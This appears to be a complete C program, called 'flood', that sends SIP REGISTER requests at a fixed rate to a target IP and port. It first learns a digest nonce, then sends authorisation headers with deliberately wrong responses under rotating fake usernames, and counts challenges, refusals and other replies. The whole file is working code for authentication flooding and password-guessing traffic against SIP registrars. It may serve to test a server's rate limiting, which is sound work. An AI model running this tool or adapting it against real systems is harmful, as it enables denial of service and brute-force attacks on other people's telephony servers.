/* Guesses passwords: learns a nonce as a phone would, then sends REGISTERs with wrong proofs at a fixed rate, whatever comes back.
 * flood LOCAL-IP TARGET-IP PORT DOMAIN PER-SECOND SECONDS; prints what was sent and what came back. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 32, ROOM = 1024 };

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static struct sockaddr_in address(const char *ip, int port) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
  if (inet_pton(AF_INET, ip, &a.sin_addr) != 1) {
    fprintf(stderr, "no address: %s\n", ip);
    exit(2);
  }
  return a;
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "flood LOCAL-IP TARGET-IP PORT DOMAIN PER-SECOND SECONDS\n");
    return 2;
  }
  const char *domain = argv[4];
  double rate = atof(argv[5]), seconds = atof(argv[6]);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  struct sockaddr_in local = address(argv[1], 0), target = address(argv[2], atoi(argv[3]));
  socklen_t length = sizeof local;
  if (bind(fd, (void *)&local, sizeof local) || connect(fd, (void *)&target, sizeof target)) {
    perror("flood");
    return 1;
  }
  getsockname(fd, (void *)&local, &length);
  char nonce[128] = "", in[4096], out[BATCH][ROOM];
  long sent = 0, challenged = 0, refused = 0, slowed = 0, run = time(NULL);
  double start = now(), t;
  while ((t = now() - start) < seconds) {
    int due = (int)(rate * t - sent), n = 0;
    struct mmsghdr messages[BATCH];
    struct iovec parts[BATCH];
    for (; n < due && n < BATCH; n++) {
      long i = sent + n;
      char proof[256] = "";
      if (nonce[0])
        snprintf(proof, sizeof proof,
                 "Authorization: Digest username=\"u%06ld\",realm=\"%s\",nonce=\"%s\",uri=\"sip:%s\",response=\"%032lx\","
                 "cnonce=\"1\",nc=00000001,qop=auth\r\n", i % 1000, domain, nonce, domain, i);
      int size = snprintf(out[n], ROOM,
                 "REGISTER sip:%s SIP/2.0\r\nVia: SIP/2.0/UDP %s:%d;branch=z9hG4bK%lx.%lx;rport\r\nMax-Forwards: 70\r\n"
                 "From: <sip:u%06ld@%s>;tag=%lx\r\nTo: <sip:u%06ld@%s>\r\nCall-ID: flood-%lx-%lx\r\nCSeq: 1 REGISTER\r\n%s"
                 "Contact: <sip:u%06ld@%s:%d>\r\nContent-Length: 0\r\n\r\n",
                 domain, argv[1], ntohs(local.sin_port), run, i, i % 1000, domain, i, i % 1000, domain, run, i, proof, i % 1000,
                 argv[1], ntohs(local.sin_port));
      parts[n] = (struct iovec){out[n], size};
      messages[n] = (struct mmsghdr){.msg_hdr = {.msg_iov = &parts[n], .msg_iovlen = 1}};
    }
    if (n > 0) {
      int gone = sendmmsg(fd, messages, n, 0);
      sent += gone > 0 ? gone : 0;
    }
    for (ssize_t size; (size = recv(fd, in, sizeof in - 1, 0)) > 0;) {
      in[size] = 0;
      char *fresh = strstr(in, "nonce=\"");
      if (fresh && sscanf(fresh, "nonce=\"%127[^\"]", nonce) == 1) challenged++;
      else if (!strncmp(in + 8, "403", 3)) refused++;
      else slowed++;
    }
    if (due < BATCH / 2) usleep(500);
  }
  printf("sent %ld (%.0f a second), challenged %ld, refused %ld, otherwise answered %ld\n", sent, sent / seconds, challenged,
         refused, slowed);
  return 0;
}
